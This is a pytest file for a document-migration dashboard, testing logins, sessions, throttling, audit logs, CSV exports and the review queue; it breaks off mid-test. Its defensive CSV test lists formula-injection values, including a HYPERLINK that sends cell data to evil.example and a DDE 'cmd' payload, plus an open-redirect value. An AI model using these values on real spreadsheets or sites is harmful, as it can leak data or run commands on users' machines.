"""The dashboard served in-process (FastAPI's TestClient) over a department migrated for real.

The department (tests/servers/browser.py): anna's Word, Excel and PowerPoint files and a text
file are migrated with LibreOffice; ben's Word file fails with load_error (his target folder is
blocked) until the test removes the blocker and an operator reruns it from the dashboard.
"""

from __future__ import annotations

import html
import io
import re
import time
from collections import Counter
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import literal_column

from servers.browser import migrate_small_department, users_file

VIEWER, OPERATOR = ("vera", "viewer", "lesen-nur-2026"), ("otto", "operator", "darf-alles-2026")


@pytest.fixture(scope="module")
def migrated(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("dashboard")
    try:
        yield migrate_small_department(tmp)
    finally:
        from flows import runtime
        runtime.close_all()


@pytest.fixture(scope="module")
def site(migrated, tmp_path_factory):
    from umstieg.dashboard import Site
    from umstieg.dashboard.auth import load_accounts
    accounts = load_accounts(users_file(tmp_path_factory.mktemp("users") / "users.yaml",
                                        {u: (r, p) for u, r, p in (VIEWER, OPERATOR)}))
    return Site([migrated.dept_file], accounts=accounts, secret="test-secret-not-for-production")


@pytest.fixture(scope="module")
def app(site):
    from umstieg.dashboard import create_app
    return create_app(site)


def client(app, who=None) -> TestClient:
    c = TestClient(app, follow_redirects=False)
    if who:
        login(c, who[0], who[2])
    return c


def login(c: TestClient, user: str, password: str):
    form = c.get("/login").text
    token = re.search(r'name="token" value="([^"]+)"', form).group(1)
    return c.post("/login", data={"username": user, "password": password, "token": token, "next": "/"})


def csrf_of(page: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


def text_of(page: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", page))


@pytest.fixture(scope="module")
def viewer(app):
    with client(app, VIEWER) as c:
        yield c


@pytest.fixture(scope="module")
def operator(app):
    with client(app, OPERATOR) as c:
        yield c


# ------------------------------------------------------------------------------------ access
def test_pages_and_actions_need_a_session(app, migrated):
    with client(app) as c:
        for url in ("/", "/departments/testamt", f"/departments/testamt/items/{migrated.docx_id}",
                    "/departments/testamt/assessment", "/tables/departments.csv",
                    "/departments/testamt/files/assessment.json"):
            r = c.get(url)
            assert r.status_code == 303 and r.headers["location"].startswith("/login?next="), url
        assert c.post("/departments/testamt/rerun", data={"csrf": "x"}).status_code == 401
        assert c.post(f"/departments/testamt/items/{migrated.docx_id}/annotation",
                      data={"verdict": "accepted", "csrf": "x"}).status_code == 401


def test_login_sets_a_signed_strict_httponly_cookie_and_wrong_passwords_fail(app, caplog):
    with client(app) as c:
        r = login(c, "vera", "falsch")
        assert r.status_code == 401 and "umstieg_session" not in c.cookies
        assert "falsch" not in caplog.text
        r = login(c, "nobody", "x")
        assert r.status_code == 401
        r = login(c, *VIEWER[::2])
        assert r.status_code == 303 and r.headers["location"] == "/"
        cookie = r.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=strict" in cookie.replace("Strict", "strict")
        assert VIEWER[2] not in cookie
        page = c.get("/").text
        assert "scrypt$" not in page and "test-secret" not in page and VIEWER[2] not in page
        # a tampered cookie is no session
        c.cookies.set("umstieg_session", c.cookies["umstieg_session"][:-2] + "xx")
        assert c.get("/").status_code == 303


def test_login_form_token_and_open_redirects(app):
    with client(app) as c:
        r = c.post("/login", data={"username": VIEWER[0], "password": VIEWER[2], "token": "forged"})
        assert r.status_code == 403 and "umstieg_session" not in c.cookies
        form = c.get("/login").text
        token = re.search(r'name="token" value="([^"]+)"', form).group(1)
        r = c.post("/login", data={"username": VIEWER[0], "password": VIEWER[2], "token": token,
                                   "next": "//evil.example/x"})
        assert r.headers["location"] == "/"


def test_logging_out_ends_the_session_on_the_server(app, migrated):
    with client(app, OPERATOR) as c:
        page = c.get(f"/departments/testamt/items/{migrated.docx_id}").text
        token, copied = csrf_of(page), c.cookies["umstieg_session"]
        assert c.post("/logout", data={"csrf": token}).status_code == 303
    with client(app) as thief:                        # someone who copied the cookie before the logout
        thief.cookies.set("umstieg_session", copied)
        assert thief.get("/").status_code == 303
        r = thief.post(f"/departments/testamt/items/{migrated.docx_id}/annotation",
                       data={"csrf": token, "verdict": "accepted", "comment": "nach dem Abmelden"})
        assert r.status_code == 401
    from reports.dashboard import document
    note = document(app.state.site.ledger_of["testamt"], "testamt", migrated.docx_id)["annotation"]
    assert note is None or note["comment"] != "nach dem Abmelden"
    # the session store keeps no cookie value: a copy of its file opens nothing
    import sqlite3
    with sqlite3.connect(app.state.store.path) as db:
        stored = {row[0] for row in db.execute("SELECT token_hash FROM sessions")}
    assert copied not in stored


@pytest.fixture
def throttled_app(migrated, tmp_path):
    """Its own dashboard (own session store) with a small throttle, so that locking out does not
    touch the other tests' logins."""
    from umstieg.dashboard import Site, create_app
    from umstieg.dashboard.auth import load_accounts
    from umstieg.dashboard.store import Throttle
    accounts = load_accounts(users_file(tmp_path / "users.yaml", {u: (r, p) for u, r, p in (VIEWER, OPERATOR)}))
    site = Site([migrated.dept_file], accounts=accounts, state_dir=tmp_path / "state",
                throttle=Throttle(per_login=3, per_address=6, window=600))
    return create_app(site)


def test_failed_logins_are_throttled_per_login_and_per_address_with_a_clear_message(throttled_app):
    with client(throttled_app) as c:
        for _ in range(3):
            assert login(c, "vera", "falsch").status_code == 401
        r = login(c, *VIEWER[::2])                      # the right password, but too late
        assert r.status_code == 429 and "umstieg_session" not in c.cookies
        assert "Too many failed logins for this login" in text_of(r.text) and int(r.headers["retry-after"]) > 0
        assert re.search(r"Try again in \d+ minutes", text_of(r.text))
        # another login from the same address still gets in, until the address has failed too often
        assert login(c, *OPERATOR[::2]).status_code == 303
        c.cookies.clear()
        for who in ("a", "b", "c"):
            assert login(c, who, "x").status_code == 401
        r = login(c, *OPERATOR[::2])
        assert r.status_code == 429 and "Too many failed logins from your address" in text_of(r.text)
    de = client(throttled_app)
    form = de.get("/login", headers={"Accept-Language": "de"}).text
    token = re.search(r'name="token" value="([^"]+)"', form).group(1)
    r = de.post("/login", data={"username": "otto", "password": OPERATOR[2], "token": token},
                headers={"Accept-Language": "de"})
    assert r.status_code == 429 and "Zu viele" in text_of(r.text)


def test_the_audit_log_records_logins_failed_logins_reruns_and_annotations(app, migrated, site):
    from umstieg.dashboard.store import Audit
    path = Audit.path(site.departments["testamt"].work_dir)
    before = path.read_text(encoding="utf-8").count("\n") if path.exists() else 0
    with client(app) as c:
        login(c, "otto", "falsch-geraten")
        login(c, *OPERATOR[::2])
        url = f"/departments/testamt/items/{migrated.failed_id}"
        token = csrf_of(c.get(url).text)
        assert c.post(f"{url}/annotation", data={"csrf": token, "verdict": "manual_work"}).status_code == 303
    import json
    entries = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()[before:]]
    assert [e["action"] for e in entries] == ["login_failed", "login", "annotation"]
    for e in entries:
        assert e["client"] == "testclient" and e["user"] == "otto"
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", e["time"])
    assert entries[2]["target"] == f"testamt: item {migrated.failed_id}" and entries[2]["verdict"] == "manual_work"
    assert "falsch-geraten" not in path.read_text(encoding="utf-8") and OPERATOR[2] not in path.read_text()
    # kept with the department, outside the report folder the dashboard serves
    assert not path.resolve().is_relative_to(site.report_dir("testamt").resolve())
    with client(app, VIEWER) as c:
        assert c.get("/departments/testamt/files/../audit/dashboard.jsonl").status_code == 404


def test_queries_are_validated_into_the_error_page_and_head_is_answered(viewer, migrated):
    for url in ("/departments/testamt?page=abc", "/departments/testamt?page=99999999999999999999",
                "/departments/testamt?page=0", "/departments/testamt?batch=abc",
                "/departments/testamt?batch=99999999999999999999", "/departments/testamt/items/99999999999999999999",
                "/departments/testamt/assessment?page=x", "/departments/testamt/reruns/abc"):
        r = viewer.get(url)
        assert r.status_code == 400, url
        assert r.headers["content-type"].startswith("text/html") and "<h1>" in r.text, url
        assert "not valid" in r.text and '"detail"' not in r.text, url
    head = viewer.head("/departments/testamt")
    get = viewer.get("/departments/testamt")
    assert head.status_code == 200 and head.content == b""
    assert head.headers["content-type"] == get.headers["content-type"]
    assert viewer.head("/tables/departments.csv").status_code == 200
    assert viewer.head("/departments/nowhere").status_code == 404
    assert viewer.delete("/").status_code == 405


def test_csv_exports_neutralise_formulas(tmp_path):
    """File names and messages that a spreadsheet program would run as formulas reach the CSV as text."""
    import csv as csvmod

    import yaml

    from core.ledger import Item, Ledger
    from umstieg.dashboard import Site, create_app
    url = f"sqlite:///{tmp_path / 'ledger.sqlite'}"
    dept_file = tmp_path / "amt.yaml"
    dept_file.write_text(yaml.safe_dump({
        "name": "formelamt", "work_dir": str(tmp_path / "work"), "ledger": url,
        "users": [{"source": "mallory", "target": "t-mallory"}],
        "sources": [{"name": "homes", "type": "folder", "root": str(tmp_path)}],
        "target": {"type": "localdir", "root": str(tmp_path / "target")}}), encoding="utf-8")
    ledger = Ledger(url)
    ledger.migrate()
    run = ledger.start_run("formelamt", "migrate")
    evil = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\t=1+1", "harmlos.txt"]
    with ledger.session() as s:
        for n, name in enumerate(evil):
            s.add(Item(department="formelamt", source="homes", key=f"k{n}", kind="file", owner="mallory",
                       target_owner="t-mallory", location=name, target_stem=name, version="1", state="failed",
                       reason="load_error", message=name))
    ledger.finish_run(run, "completed", {})
    ledger.close()
    with TestClient(create_app(Site([dept_file])), base_url="http://127.0.0.1") as c:
        for url in ("/departments/formelamt/tables/items.csv", "/departments/formelamt/tables/failures.csv"):
            text = c.get(url).content.decode("utf-8-sig")
            cells = [cell for row in csvmod.reader(io.StringIO(text)) for cell in row]
            assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], (url, cells)
        paths = pd.read_csv(io.StringIO(c.get("/departments/formelamt/tables/items.csv").content.decode("utf-8-sig")))
        assert list(paths["Path"]) == ["'" + e if e != "harmlos.txt" else e for e in evil]
        assert list(paths["Item"]) == sorted(paths["Item"])             # ids stay numbers


def _synthetic_department(tmp_path, name, items, stopped=None):
    """A department file and a SQLite ledger holding `items` (dicts of Item columns) from one run."""
    import yaml

    from core.ledger import Item, Ledger
    url = f"sqlite:///{tmp_path / 'ledger.sqlite'}"
    dept_file = tmp_path / f"{name}.yaml"
    owners = sorted({i["owner"] for i in items})
    dept_file.write_text(yaml.safe_dump({
        "name": name, "work_dir": str(tmp_path / "work"), "ledger": url,
        "users": [{"source": o, "target": f"t-{o}"} for o in owners],
        "sources": [{"name": "homes", "type": "folder", "root": str(tmp_path)}],
        "target": {"type": "localdir", "root": str(tmp_path / "target")}}), encoding="utf-8")
    ledger = Ledger(url)
    ledger.migrate()
    run = ledger.start_run(name, "migrate")
    with ledger.session() as s:
        for n, item in enumerate(items):
            s.add(Item(department=name, source="homes", key=f"k{n}", kind="file", target_owner="t-" + item["owner"],
                       target_stem=item["location"], version="1", **item))
    ledger.finish_run(run, "completed", {"stopped_users": stopped or {}, "this_run": {"verified": len(items)},
                                         "seconds": 10})
    return dept_file, ledger


def test_items_that_need_a_person_are_never_done_and_are_worked_through_one_by_one(tmp_path):
    """Encrypted and unreadable documents moved unconverted, a conversion to review, a renamed file,
    a link not moved and a document too large to convert each need a person; a waiting user's
    items wait with the reason; only the plain file is done."""
    from sqlalchemy import text

    from reports import dashboard as data
    from umstieg.dashboard import Site, create_app
    items = [
        dict(owner="anna", location="plain.docx", state="verified", conversion="converted",
             fidelity_verdict="identical", fidelity_score=100.0),
        dict(owner="anna", location="geheim.docx", state="verified", conversion="encrypted", message="encrypted OOXML"),
        dict(owner="anna", location="kaputt.xlsx", state="verified", conversion="unreadable", message="damaged"),
        dict(owner="anna", location="layout.pptx", state="verified", conversion="converted", fidelity_verdict="review",
             fidelity_score=71.0),
        dict(owner="anna", location="Bericht.TXT", state="verified", renamed="case_twin",
             target_path="Bericht (2).TXT"),
        dict(owner="anna", location="link", state="skipped", reason="skipped_link"),
        dict(owner="anna", location="riesig.xlsx", state="failed", reason="conversion_too_large"),
        dict(owner="anna", location="weg.docx", state="failed", reason="load_error"),
        dict(owner="ben", location="wartet.docx", state="discovered"),
        dict(owner="ben", location="wartet2.docx", state="discovered"),
    ]
    dept_file, ledger = _synthetic_department(tmp_path, "pruefamt", items,
                                              stopped={"ben": "the target account's quota is used up"})
    try:
        row = data.overview(ledger, ["pruefamt"])["departments"][0]
        assert {c: row[c] for c in data.CATEGORIES} == {"done": 1, "needs_person": 6, "failed": 1, "waiting": 2,
                                                         "pending": 0}
        assert row["percent_done"] == 10.0 and row["phase"] != "done"
        with ledger.session() as s:        # the counts read the partial index, not every item
            sql = (f"EXPLAIN QUERY PLAN SELECT owner, count(*) FROM items WHERE department = 'pruefamt' "
                   f"AND {data.NEEDS_A_PERSON} GROUP BY owner")
            plan = " ".join(str(r[-1]) for r in s.execute(text(sql)))
        assert "ix_items_needs_person" in plan, plan
    finally:
        ledger.close()
    accounts_dir = tmp_path / "acc"
    accounts_dir.mkdir()
    from umstieg.dashboard.auth import load_accounts
    accounts = load_accounts(users_file(accounts_dir / "users.yaml", {"otto": ("operator", OPERATOR[2])}))
    app = create_app(Site([dept_file], accounts=accounts, state_dir=tmp_path / "state"))
    with client(app, OPERATOR) as c:
        page = text_of(c.get("/departments/pruefamt").text)
        assert "10.0 % done (1 of 10)" in page and "6 need a person" in page and "1 open failures" in page
        assert "ben" in page and "quota is used up" in page                        # who waits, and why
        assert 'href="/departments/pruefamt/attention"' in c.get("/departments/pruefamt").text
        queue = c.get("/departments/pruefamt/attention").text
        rows = r'<th scope="row"><a href="/departments/pruefamt/items/(\d+)\?queue=1"'
        listed = re.findall(rows, queue)
        assert len(listed) == 6
        for why in ("too large to convert", "encrypted (moved unconverted)", "unreadable or damaged",
                    "not moved (a link", "review", "renamed at the target"):
            assert why in text_of(queue), why                 # human names, not the ledger's codes
        only = text_of(c.get("/departments/pruefamt/attention", params={"why": "encrypted"}).text)
        assert "geheim.docx" in only and "kaputt.xlsx" not in only
        assert c.get("/departments/pruefamt/attention", params={"why": "bogus"}).status_code == 400
        csv = pd.read_csv(io.BytesIO(c.get("/departments/pruefamt/attention.csv").content), encoding="utf-8-sig")
        assert sorted(csv["Path"]) == sorted(["geheim.docx", "kaputt.xlsx", "layout.pptx", "Bericht.TXT", "link",
                                              "riesig.xlsx"])
        # document by document: previous / next through the list
        first = c.get(f"/departments/pruefamt/items/{listed[0]}?queue=1").text
        assert 'id="queue-next"' in first and 'id="queue-previous"' not in first and "Item 1 / 6" in text_of(first)
        nxt = re.search(r'href="([^"]+)" rel="next" id="queue-next"', first).group(1).replace("&amp;", "&")
        second = c.get(nxt).text
        assert 'id="queue-previous"' in second and "Item 2 / 6" in text_of(second)
        # a person accepts the encrypted document as it is: it leaves the list and counts as done
        enc = re.search(r'/departments/pruefamt/items/(\d+)\?queue=1"[^>]*>\d+</a></th>\s*'
                        r'<td>anna</td><td class="path">geheim\.docx', queue).group(1)
        token = csrf_of(first)
        r = c.post(f"/departments/pruefamt/items/{enc}/annotation?back=queue%3D1",
                   data={"csrf": token, "verdict": "accepted", "comment": "Passwort liegt beim Amt"})
        assert r.status_code == 303 and "queue=1" in r.headers["location"]
        assert len(re.findall(rows, c.get("/departments/pruefamt/attention").text)) == 5
        overview = pd.read_csv(io.BytesIO(c.get("/tables/departments.csv").content), encoding="utf-8-sig")
        assert tuple(overview.loc[0, ["Done", "Needs a person"]]) == (2, 5)


def test_a_document_too_large_that_a_person_accepts_counts_as_done(tmp_path):
    from reports import dashboard as data
    items = [dict(owner="anna", location="riesig.xlsx", state="failed", reason="conversion_too_large"),
             dict(owner="anna", location="klein.txt", state="verified")]
    _, ledger = _synthetic_department(tmp_path, "grossamt", items)
    try:
        row = data.overview(ledger, ["grossamt"])["departments"][0]
        assert (row["done"], row["needs_person"], row["failed"]) == (1, 1, 0)
        big = data.item_page(ledger, "grossamt", {"q": "riesig"})["table"].rows[0]["id"]
        assert data.annotate(ledger, "grossamt", big, "accepted", "bleibt im Original", "otto")
        row = data.overview(ledger, ["grossamt"])["departments"][0]
        assert (row["done"], row["needs_person"], row["failed"]) == (2, 0, 0)
        assert data.department_view(ledger, "grossamt")["categories"]["needs_person"] == 0
    finally:
        ledger.close()


def test_without_logins_only_loopback_host_names_are_answered(migrated):
    from umstieg.dashboard import Site, create_app
    with TestClient(create_app(Site([migrated.dept_file])), base_url="http://127.0.0.1:8350",
                    follow_redirects=False) as c:
        assert c.get("/").status_code == 200
        for host in ("localhost:8350", "[::1]:8350", "127.0.0.1"):
            assert c.get("/", headers={"Host": host}).status_code == 200, host
        for host in ("evil.example", "evil.example:8350", "127.0.0.1.evil.example", ""):
            r = c.get("/departments/testamt", headers={"Host": host})
            assert r.status_code == 421 and "testamt" not in r.text, host
            assert c.get("/tables/departments.csv", headers={"Host": host}).status_code == 421


# ------------------------------------------------------------------------------------ pages
def test_overview_shows_each_department_with_phase_progress_verdicts_and_failures(viewer):
    r = viewer.get("/")
    assert r.status_code == 200 and '<html lang="en">' in r.text
    text = text_of(r.text)
    assert "testamt" in text and "bulk" in text                   # all users migrated once
    assert 'href="/departments/testamt"' in r.text
    csv = pd.read_csv(io.BytesIO(viewer.get("/tables/departments.csv").content), encoding="utf-8-sig")
    record = csv.set_index("Department").loc["testamt"]
    assert (record["Phase"], record["Items"], record["Done"] + record["Needs a person"], record["Failed"],
            record["Remaining"], record["Waiting"]) == ("bulk", 5, 4, 1, 0, 0)
    assert record["% done"] == round(100 * record["Done"] / 5, 1)
    assert record["Items per second"] > 0
    verdicts = pd.read_csv(io.BytesIO(viewer.get("/tables/verdicts.csv").content), encoding="utf-8-sig")
    assert verdicts[["identical", "minor", "review", "broken"]].sum(axis=1).iloc[0] == 4   # 3 of anna, 1 of ben
    assert '<svg class="stack"' in r.text and "<title" in r.text      # one stacked bar each, with its words


def test_overview_exports_to_one_self_contained_html_file(viewer):
    r = viewer.get("/export/overview.html")
    assert r.status_code == 200 and "attachment" in r.headers["content-disposition"]
    page = r.text
    assert "<style>" in page and "<svg" in page and "testamt" in page
    assert 'rel="stylesheet"' not in page and not re.search(r'(src|href)="(https?:)?//', page)
    assert 'href="/' not in page and 'src="/' not in page     # nothing fetched from the dashboard either


def test_department_page_progress_fidelity_failures_and_items(viewer, migrated):
    r = viewer.get("/departments/testamt")
    assert r.status_code == 200
    text = text_of(r.text)
    for expected in ("Progress by user", "Progress by kind", "Fidelity verdicts by format",
                     "Score histogram by format", "Top deductions", "Top risk flags", "Failures by error class",
                     "could not be written to the target"):
        assert expected in text, expected
    assert "Operators can rerun" in text and 'action="/departments/testamt/rerun"' not in r.text   # viewer
    tables = {name: pd.read_csv(io.BytesIO(viewer.get(f"/departments/testamt/tables/{name}.csv").content),
                                encoding="utf-8-sig")
              for name in ("users", "kinds", "verdicts", "scores", "failures", "deductions", "risks")}
    users = tables["users"].set_index("User")
    assert users.loc["anna", "verified"] == 4 and users.loc["ben", "failed"] == 1
    assert set(tables["verdicts"]["Format"]) == {"docx", "xlsx", "pptx"}
    assert tables["scores"].drop(columns="Format").to_numpy().sum() == 4
    failures = tables["failures"].set_index("Error class")
    assert failures.loc["load_error", "Items"] == 1 and "t-ben" in failures.loc["load_error", "Example message"]
    # the item table filters and paginates in SQL
    failed = viewer.get("/departments/testamt", params={"state": "failed"}).text
    assert f"/departments/testamt/items/{migrated.failed_id}" in failed
    assert f"/departments/testamt/items/{migrated.docx_id}\"" not in failed
    items = pd.read_csv(io.BytesIO(viewer.get("/departments/testamt/tables/items.csv",
                                               params={"owner": "anna"}).content), encoding="utf-8-sig")
    assert sorted(items["Path"]) == ["Ablage/doc000.docx", "Ablage/doc001.xlsx", "Ablage/doc002.pptx", "notes.txt"]


def test_the_format_histogram_reads_the_format_index(site):
    """The verdicts by format are grouped in the order of the expression index of migration 0005."""
    from sqlalchemy import func, literal_column, select, text

    from core.ledger import Item
    from reports.dashboard import file_ext
    led = site.ledger_of["testamt"]
    ext = file_ext(Item.location)
    q = (select(ext, Item.fidelity_verdict, Item.fidelity_score, func.count(Item.id))
         .where(Item.department == "testamt", Item.fidelity_score.isnot(None))
         .group_by(ext, Item.fidelity_verdict, Item.fidelity_score))
    sql = str(q.compile(dialect=led.engine.dialect, compile_kwargs={"literal_binds": True}))
    with led.session() as s:
        plan = " ".join(str(row[-1]) for row in s.execute(text("EXPLAIN QUERY PLAN " + sql)))
        assert "ix_items_department_format" in plan and "TEMP B-TREE" not in plan, plan
        assert sorted({row[0] for row in s.execute(q)}) == ["docx", "pptx", "xlsx"]
        for location, want in (("a/b.DOCX", "docx"), ("noext", ""), ("dir.d/file", ""), ("x.tar.gz", "gz")):
            assert s.scalar(select(file_ext(literal_column(f"'{location}'")))) == want, location


def test_item_pages_paginate_in_the_database(site, migrated):
    from reports.dashboard import item_page
    led = site.ledger_of["testamt"]
    first, last = item_page(led, "testamt", {}, page=1, per_page=2), item_page(led, "testamt", {}, page=3, per_page=2)
    assert (first["total"], first["pages"], len(first["table"].rows), len(last["table"].rows)) == (5, 3, 2, 1)
    ids = [r["id"] for p in (1, 2, 3) for r in item_page(led, "testamt", {}, page=p, per_page=2)["table"].rows]
    assert len(ids) == 5 == len(set(ids))


def test_document_page_shows_the_record_and_both_thumbnails(viewer, migrated):
    r = viewer.get(f"/departments/testamt/items/{migrated.docx_id}")
    assert r.status_code == 200
    text = text_of(r.text)
    assert "Ablage/doc000.docx" in text and "Fidelity record" in text and "Deductions" in text
    assert "beside the converted copy at the target" in text and "doc000.docx" in text    # keep_original: always
    images = re.findall(r'<img src="([^"]+)"', r.text)
    assert len(images) == 2 and any("-source.png" in i for i in images) and any("-output.png" in i for i in images)
    for src in images:
        png = viewer.get(src)
        assert png.status_code == 200 and png.content[:8] == b"\x89PNG\r\n\x1a\n"
    # "full size" opens the large picture the visual check kept beside the thumbnail
    full = dict(re.findall(r'<a href="([^"]+)" id="full-(source|output)">', r.text))
    assert {side for side in full.values()} == {"source", "output"}
    for src, side in full.items():
        assert src.endswith(f"-{side}-view.png")
        assert viewer.get(src).content[:8] == b"\x89PNG\r\n\x1a\n"
    assert viewer.get("/departments/testamt/items/999999").status_code == 404
    assert viewer.get("/departments/nowhere/items/1").status_code == 404


def test_the_viewer_enlarges_both_pages_side_by_side_and_steps_through_documents(viewer, migrated):
    page = viewer.get(f"/departments/testamt/items/{migrated.docx_id}").text
    link = re.search(r'<a class="button" id="open-viewer" href="([^"]+)"', page).group(1)
    assert link == f"/departments/testamt/items/{migrated.docx_id}/pages"
    fit = viewer.get(link)
    assert fit.status_code == 200
    images = dict((side, (src, int(w), int(h))) for src, w, h, side in re.findall(
        r'<img src="([^"]+)" width="(\d+)" height="(\d+)" alt="[^"]+" id="page-(source|output)">', fit.text))
    assert set(images) == {"source", "output"}
    from PIL import Image

    from reports.visual import VIEW_WIDTH
    for side, (src, w, h) in images.items():
        assert src.endswith(f"-{side}-view.png"), src                     # the large picture, not the thumbnail
        png = viewer.get(src)
        assert png.status_code == 200
        assert Image.open(io.BytesIO(png.content)).size == (w, h), side      # fitted: its own size, scaled by CSS
        assert w == VIEW_WIDTH
    assert 'class="viewer zoom-fit"' in fit.text and 'aria-current="true" id="zoom-fit"' in fit.text
    assert "100 % (pixel for pixel)" in text_of(fit.text) and "rendered large for this viewer" in fit.text
    # each picture in a region of its own that the keyboard can scroll, named by its caption
    assert len(re.findall(r'<div class="page-wrap" tabindex="0" role="region" '
                          r'aria-labelledby="cap-(source|output)" id="wrap-\1">',
                          fit.text)) == 2
    twice = viewer.get(link, params={"zoom": "3"}).text
    for side, (_src, w, h) in images.items():        # three quarters of the large picture
        assert f'width="{round(3 * w / 4)}" height="{round(3 * h / 4)}" alt=' in twice and f'id="page-{side}"' in twice
    largest = viewer.get(link, params={"zoom": "4"}).text
    for _src, w, h in images.values():               # pixel for pixel
        assert f'width="{w}" height="{h}" alt=' in largest
    assert viewer.get(link, params={"zoom": "9"}).status_code == 400
    # previous / next through the department's measured documents, keeping the zoom
    from sqlalchemy import select

    from core.ledger import Item
    led = viewer.app.state.site.ledger_of["testamt"]
    with led.session() as s:
        measured = list(s.scalars(select(Item.id).where(Item.department == "testamt", Item.fidelity_score.isnot(None))
                                  .order_by(Item.id)))
    at = measured.index(migrated.docx_id)
    nxt = re.search(r'<a href="([^"]+)" rel="next" id="viewer-next">', twice)
    if at + 1 < len(measured):
        assert nxt.group(1).replace("&amp;", "&") == f"/departments/testamt/items/{measured[at + 1]}/pages?zoom=3"
        back = viewer.get(nxt.group(1).replace("&amp;", "&")).text
        prev = re.search(r'<a href="([^"]+)" rel="prev" id="viewer-previous">', back).group(1)
        assert prev.replace("&amp;", "&") == f"/departments/testamt/items/{migrated.docx_id}/pages?zoom=3"
    else:
        assert nxt is None
    with led.session() as s:
        text_file = s.scalar(select(Item.id).where(Item.department == "testamt", Item.location == "notes.txt"))
    assert text_file not in measured and len(measured) >= 3
    assert "No page pictures" in viewer.get(f"/departments/testamt/items/{text_file}/pages").text
    assert viewer.get("/departments/testamt/items/999999/pages").status_code == 404


def test_a_record_from_before_the_large_pictures_shows_its_thumbnails_enlarged(tmp_path, migrated):
    """Ledgers written before the visual check kept large pictures name thumbnails only: the viewer
    enlarges those, 1-4 times their own size, and says why fine print is blurred. A record naming
    a large picture outside the report folder gets the thumbnails too."""
    import shutil

    from core.department import load_department
    from umstieg.dashboard import Site, create_app
    measured = load_department(migrated.dept_file).work_dir / "reports" / "thumbs"
    key = next(measured.glob("*-source-view.png")).name.removesuffix("-source-view.png")
    old = {"status": "assessed", "score": 100.0, "verdict": "identical", "deductions": [],
           "visual": {"status": "compared", "thumbnails": {s: f"alt-{s}.png" for s in ("source", "output")}}}
    outside = {**old, "visual": {**old["visual"], "views": {s: f"../../../{s}.png" for s in ("source", "output")}}}
    items = [dict(owner="anna", location=f"{n}.docx", state="verified", conversion="converted", fidelity=record,
                  fidelity_verdict="identical", fidelity_score=100.0)
             for n, record in (("alt", old), ("aussen", outside))]
    dept_file, ledger = _synthetic_department(tmp_path, "altamt", items)
    ledger.close()
    thumbs = tmp_path / "work" / "reports" / "thumbs"
    thumbs.mkdir(parents=True)
    for side in ("source", "output"):
        shutil.copy(measured / f"{key}-{side}.png", thumbs / f"alt-{side}.png")
        (tmp_path / f"{side}.png").write_bytes((measured / f"{key}-{side}-view.png").read_bytes())   # outside
    from PIL import Image
    with Image.open(thumbs / "alt-source.png") as image:
        w, h = image.size
    with TestClient(create_app(Site([dept_file])), base_url="http://127.0.0.1") as c:
        for item_id in (1, 2):
            page = c.get(f"/departments/altamt/items/{item_id}/pages", params={"zoom": "3"})
            assert page.status_code == 200
            shown = re.findall(r'<img src="([^"]+)" width="(\d+)" height="(\d+)" alt="[^"]+" '
                               r'id="page-(source|output)">', page.text)
            assert sorted(s for *_, s in shown) == ["output", "source"]
            for src, *_size, side in shown:
                assert src == f"/departments/altamt/files/thumbs/alt-{side}.png"
                assert c.get(src).status_code == 200
            assert ("/departments/altamt/files/thumbs/alt-source.png", str(3 * w), str(3 * h), "source") in shown
            assert "3 × own size" in text_of(page.text) and "measured before" in page.text
            assert "pixel for pixel" not in page.text
            item = c.get(f"/departments/altamt/items/{item_id}").text
            assert re.findall(r'<a href="([^"]+)" id="full-source">', item) == [
                "/departments/altamt/files/thumbs/alt-source.png"]


def test_the_viewer_opened_from_the_queue_steps_through_the_queue(tmp_path):
    from umstieg.dashboard import Site, create_app
    items = [dict(owner="anna", location=f"f{n}.docx", state="verified", conversion="encrypted") for n in range(3)]
    items.insert(1, dict(owner="anna", location="fine.docx", state="verified", conversion="converted",
                         fidelity_verdict="identical", fidelity_score=100.0))
    dept_file, ledger = _synthetic_department(tmp_path, "schauamt", items)
    ledger.close()
    with TestClient(create_app(Site([dept_file])), base_url="http://127.0.0.1") as c:
        queue = c.get("/departments/schauamt/attention", params={"why": "encrypted"}).text
        ids = re.findall(r'<th scope="row"><a href="/departments/schauamt/items/(\d+)\?queue=1', queue)
        assert len(ids) == 3
        item = c.get(f"/departments/schauamt/items/{ids[1]}?queue=1&why=encrypted").text
        assert "open-viewer" not in item                       # no pictures: nothing to enlarge
        middle = c.get(f"/departments/schauamt/items/{ids[1]}/pages?queue=1&why=encrypted").text
        assert "Item 2 / 3" in text_of(middle)
        links = {rel: href.replace("&amp;", "&") for href, rel in
                 re.findall(r'<a href="([^"]+)" rel="(prev|next)" id="viewer-(?:previous|next)">', middle)}
        assert links == {"prev": f"/departments/schauamt/items/{ids[0]}/pages?queue=1&why=encrypted&zoom=fit",
                         "next": f"/departments/schauamt/items/{ids[2]}/pages?queue=1&why=encrypted&zoom=fit"}
        back = re.search(r'<a href="([^"]+)" id="viewer-back">', middle).group(1).replace("&amp;", "&")
        assert back == f"/departments/schauamt/items/{ids[1]}?queue=1&why=encrypted"


def test_the_department_page_shows_the_identity_map_of_the_assessment(viewer):
    page = text_of(viewer.get("/departments/testamt").text)
    assert "Identity map" in page and "2 users: 2 go ahead, 0 wait" in page and "by the assessment" in page
    full = viewer.get("/departments/testamt/identities")
    assert full.status_code == 200 and "t-anna" in full.text and "t-ben" in full.text
    csv = pd.read_csv(io.BytesIO(viewer.get("/departments/testamt/identities.csv").content), encoding="utf-8-sig")
    assert sorted(csv["User at the source"]) == ["anna", "ben"] and set(csv["Verdict"]) == {"go"}


def test_the_identity_map_is_checked_on_request_as_umstieg_users_shows_it(tmp_path):
    """carl has no folder at the source: he would wait, with the reason `umstieg users` gives."""
    import yaml
    from typer.testing import CliRunner

    from umstieg.cli import app as cli
    from umstieg.dashboard import Site, create_app
    (tmp_path / "home" / "anna").mkdir(parents=True)
    dept_file = tmp_path / "ausweisamt.yaml"
